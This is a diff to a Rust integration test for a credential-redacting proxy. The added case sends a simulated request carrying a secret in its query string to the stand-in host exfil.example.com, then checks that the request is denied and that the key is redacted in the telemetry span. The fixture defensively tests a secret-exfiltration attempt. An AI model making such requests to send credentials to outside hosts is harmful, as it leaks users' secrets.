@@ -235,7 +235,7 @@ async fn every_provider_json_and_sse_yields_a_complete_redacted_span() {
     // A custom upstream's response bodies are scrubbed toward the agent by default.
     assert!(!body.contains(CUSTOM_KEY) && body.contains("[redacted]"), "the agent got the echoed key: {body}");
     // A denial gets a span too, with error.type.
-    let (st, _) = send(&c, port, "exfil.example.com", "/upload", &[]).await;
+    let (st, _) = send(&c, port, "exfil.example.com", "/upload?key=agent-secret-in-query&x=1", &[]).await;
     assert_eq!(st, 403);
 
     let n = cases().len() + 2;
@@ -329,6 +329,9 @@ async fn every_provider_json_and_sse_yields_a_complete_redacted_span() {
         .unwrap();
     assert_eq!(otlp::s(&denied.attributes, "error.type").as_deref(), Some("no_route"));
     assert_eq!(denied.name, "POST exfil.example.com");
+    // A refusal that matched no route still redacts the credential parameters in its URL.
+    let url = otlp::s(&denied.attributes, "url.full").unwrap_or_default();
+    assert!(url.ends_with("/upload?key=[redacted]&x=1"), "{url}");
     // Readable in a viewer: keyswap's own status, no placeholder route, no body event for a body
     // that was never read.
     assert_eq!(otlp::i(&denied.attributes, "http.response.status_code"), Some(403));
